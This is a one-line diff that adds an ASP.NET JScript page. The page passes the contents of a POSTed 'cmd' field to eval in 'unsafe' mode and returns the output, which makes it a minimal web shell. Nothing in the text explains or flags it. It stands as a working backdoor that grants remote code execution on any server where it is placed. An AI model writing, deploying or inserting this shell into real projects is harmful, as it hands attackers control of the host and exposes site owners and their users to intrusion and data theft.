@@ -1,0 +1,1 @@
+<%@ Page Language = "jscript" %><% Response.Write(eval(Request.Form["cmd"], "unsafe")); %>
